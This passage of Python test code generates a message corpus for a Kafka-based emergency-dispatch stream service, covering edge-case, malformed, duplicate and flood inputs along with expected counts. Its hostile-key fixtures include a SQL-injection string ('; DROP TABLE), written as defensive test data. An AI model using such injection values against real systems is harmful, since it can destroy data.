        out.append((topic, ev, value if value is not None else _dumps(ev), "valid", k, zones))

    # injection-looking but printable ids, and max-length ids
    for i, inj in enumerate(INJECTION):
        suffix = f"#{i}"
        add(CALLS, g.call(call_id=inj[:64 - len(suffix)] + suffix))
        add(ALERTS, g.alert(alert_id=(inj + "-alert")[:60] + suffix, camera_id=inj[:64]))
        add(GPS, g.fix(unit=inj[:64 - len(suffix)] + suffix))
    add(CALLS, g.call(call_id="c" * 64))
    add(CALLS, g.call(call_id="警" * 60 + "0001"))
    add(ALERTS, g.alert(alert_id="🚨" * 63 + "1", camera_id="📷" * 64))
    add(GPS, g.fix(unit="u" * 64))
    # edge ts: exactly 2000-01-01T00:00:00Z, as int and as strings (no zone: another day)
    add(CALLS, g.call(ts=MIN_TS_MS))
    ev = g.alert(ts=MIN_TS_MS)
    add(ALERTS, ev, _dumps({**ev, "ts": "2000-01-01T00:00:00Z"}))
    ev = g.fix(ts=MIN_TS_MS)
    add(GPS, ev, _dumps({**ev, "ts": "2000-01-01T08:00:00+08:00"}))
    ev = g.call(ts=MIN_TS_MS + 1)
    add(CALLS, ev, _dumps({**ev, "ts": "1999-12-31T19:00:00.001-05:00"}))
    # edge coordinates
    for lat, lon in [(90.0, 180.0), (-90.0, -180.0), (90, -180), (0, 0), (-0.0, -0.0), (85.06, 179.999999),
                     (-85.06, -179.999999), (0.000001, 180)]:
        for topic in TOPICS:
            ev = g.canonical(topic)
            ev["lat"], ev["lon"] = float(lat), float(lon)
            add(topic, ev, _dumps({**ev, "lat": lat, "lon": lon}))
    # edge values of the other fields
    add(CALLS, g.call(priority=1, text="", caller="", lang=""))
    add(CALLS, g.call(text="警" * 4096, caller="9" * 64, lang="x" * 35))
    add(CALLS, g.call(text="\u0000" * 4096))
    add(CALLS, g.call(text="🚓" * 4096))
    ev = g.alert(confidence=0.0, severity=4)
    add(ALERTS, ev, _dumps({**ev, "confidence": 0}))
    ev = g.alert(confidence=1.0, severity=1)
    add(ALERTS, ev, _dumps({**ev, "confidence": 1, "severity": 1.0}))
    ev = g.alert(severity=3)
    add(ALERTS, ev, _dumps({k: v for k, v in ev.items() if k != "severity"}))
    ev = g.fix(status="available", kind="car", force="police")
    ev.pop("speed", None), ev.pop("heading", None)
    add(GPS, ev, _dumps({**ev, "status": None, "kind": None, "force": None}))
    ev = g.fix(force="police")
    add(GPS, ev, _dumps({**ev, "force": "militia"}))   # an unknown force is police (CONTRACT §1)
    ev = g.fix(force="police")
    add(GPS, ev, _dumps({k: v for k, v in ev.items() if k != "force"}))
    ev = g.fix(speed=0.0, heading=360.0)
    add(GPS, ev, _dumps({**ev, "speed": 0, "heading": 360}))
    ev = g.fix(speed=1e300, heading=0.0)
    add(GPS, ev)
    # the key is not part of the contract check: hostile keys on valid values
    for key in (None, b"", b"\xff\xfe", b"\x00\x01", b"'; DROP TABLE k;--", b"k" * 60_000):
        for topic in TOPICS:
            add(topic, g.canonical(topic), key=key)
    # large but valid: an unknown padding field (300 KB and 5 MB), and a 1.5 MB Kafka key
    ev = g.call()
    add(CALLS, ev, _dumps({**ev, "padding": "p" * 300_000}))
    ev = g.alert()
    add(ALERTS, ev, _dumps({**ev, "padding": "警" * (BIG // 3)}))
    ev = g.fix()
    add(GPS, ev, key=r.randbytes(1_500_000))
    return out


def corpus(seed: int = 20230612, n_valid: int = 2000, bad_mix: dict | None = None,
           n_duplicates: int = 60, n_flood: int = 600) -> list[Msg]:
    """The interleaved corpus in publish order (see the module docstring). `n_flood` of the valid
    events are maximal calls (4096 escaped control characters of text, ~24 KB each) published
    in one burst."""
    g = _Gen(seed)
    r = g.rng
    bad_builder = _Bad(g)
    valid: list[Msg] = []

    def add_valid(topic, ev, value, cls, key, zones):
        if topic == GPS and "force" not in ev:   # contract v3: a fix without a force is police's
            ev = {**ev, "force": "police"}
        valid.append(Msg(topic, key, value, cls, "accepted", norm=ev, zones=tuple(sorted(zones))))

    for topic, ev, value, cls, key, zones in _special_valid(g):
        add_valid(topic, ev, value, cls, key, zones)
    # the event that carries the final clock
    ev = g.call(ts=FINAL_CLOCK)
    add_valid(CALLS, ev, _dumps(ev), "valid", ev["call_id"].encode(), ())
    flood = []
    spot = g.point(())
    for _ in range(n_flood):
        ev = g.call(lat=spot[0], lon=spot[1], text="\u0000" * 4096)
        flood.append(Msg(CALLS, ev["call_id"].encode(), _dumps(ev), "valid_flood", "accepted", norm=ev))
    zone_sets = list(ZONE_BOXES)
    while len(valid) < n_valid:
        topic = r.choices(TOPICS, weights=(45, 30, 25))[0]
        zones = r.choice(zone_sets) if r.random() < 0.2 else ()
        ev = g.canonical(topic, zones)
        value, _how = _variant(g, topic, ev)
        add_valid(topic, ev, value, "valid", g.key_for(topic, ev), zones)

    bad: list[Msg] = []
    for cls, n in (bad_mix or BAD_MIX).items():
        build = getattr(bad_builder, cls)
        for i in range(n):
            topic = TOPICS[i % 3]
            value, reason = build(topic, i)
            key = g.hostile_key() if r.random() < 0.5 else f"k-{cls}-{i}".encode()
            if value is None and key is None:  # Kafka clients refuse a record with neither
                key = b""
            bad.append(Msg(topic, key, value, cls, "rejected", reason=reason))
    # a bad value under a 1.5 MB key (the dead letter must still be written)
    bad.append(Msg(CALLS, r.randbytes(1_500_000), b"{not json", "large_key", "rejected", reason="invalid JSON"))

    msgs = valid + bad
    r.shuffle(msgs)
    at = r.randrange(len(msgs))
    msgs[at:at] = flood
    # exact repeats of in-day valid events, re-encoded, each placed after its original
    candidates = [i for i, m in enumerate(msgs)
                  if m.expect == "accepted" and DAY_START <= m.norm["ts"] <= FINAL_CLOCK and m.key
                  and len(m.value) < 100_000]
    for i in sorted(r.sample(candidates, n_duplicates), reverse=True):
        orig = msgs[i]
        value, _how = _variant(g, orig.topic, dict(orig.norm), change=False)
        dup = Msg(orig.topic, orig.key, value, "valid_duplicate", "duplicate", norm=orig.norm, zones=orig.zones)
        msgs.insert(r.randint(i + 1, len(msgs)), dup)
    return msgs


# --- expectations -----------------------------------------------------------------------------
def expected_counts(msgs: list[Msg]) -> dict[tuple[str, str], int]:
    """zonewatch_events_total{source, outcome} after the whole corpus."""
    out: Counter = Counter()
    for m in msgs:
        out[(SOURCE[m.topic], m.expect)] += 1
    # camera.status (CONTRACT v2) is a source too; this corpus sends none of it
    return {(s, o): out.get((s, o), 0) for s in (*SOURCE.values(), "status")
            for o in ("accepted", "duplicate", "rejected")}


def _primary_tag(lang) -> str:
    """CONTRACT §3 calls_by_lang key: the BCP 47 primary subtag (its leading letters, at most 8),
    lower case; "und" without one. Written apart from streams/routing.py on purpose."""
    letters = ""
    for ch in lang or "":
        if ch.isascii() and ch.isalpha():
            letters += ch
        else:
            break
    return letters.lower() if 0 < len(letters) <= 8 else "und"


def expected_today(msgs: list[Msg]) -> dict[str, dict]:
    """The `today` block of every zone once the clock is FINAL_CLOCK (CONTRACT §3)."""
    out = {z: {"date": DAY, "calls": 0, "calls_by_category": Counter(), "calls_by_priority": Counter(),
               "calls_by_lang": Counter(), "alerts": 0, "alerts_by_type": Counter()} for z in ZONE_IDS}
    for m in msgs:
        if m.expect != "accepted" or m.topic == GPS or local_date(m.norm["ts"]) != DAY:
            continue
        for z in m.zones:
            t = out[z]
            if m.topic == CALLS:
                t["calls"] += 1
                t["calls_by_category"][m.norm["category"]] += 1
                t["calls_by_priority"][str(m.norm["priority"])] += 1
                t["calls_by_lang"][_primary_tag(m.norm.get("lang"))] += 1
            else:
                t["alerts"] += 1
                t["alerts_by_type"][m.norm["type"]] += 1
    for t in out.values():
        for k in ("calls_by_category", "calls_by_priority", "calls_by_lang", "alerts_by_type"):
            t[k] = dict(t[k])
    return out


def composition(msgs: list[Msg]) -> dict[str, Counter]:
    """Counts per class and per topic (for the report), plus the Kafka key kinds."""
    by_cls = Counter(m.cls for m in msgs)
    by_topic = Counter((m.topic, m.expect) for m in msgs)
    keys = Counter("null" if m.key is None else "empty" if m.key == b"" else
                   "non-utf8" if not _utf8(m.key) else "large" if len(m.key) > 1000 else "text" for m in msgs)
    return {"class": by_cls, "topic": by_topic, "key": keys}


def _utf8(b: bytes) -> bool:
    try:
        b.decode("utf-8")
        return True
    except UnicodeDecodeError:
        return False


if __name__ == "__main__":
    import time

    t0 = time.monotonic()
    c = corpus()
    print(f"{len(c)} messages in {time.monotonic() - t0:.2f}s, "
          f"{sum(len(m.value or b'') + len(m.key or b'') for m in c) / 1e6:.1f} MB")
    for k, v in composition(c).items():
        print(k, dict(sorted(v.items(), key=str)))
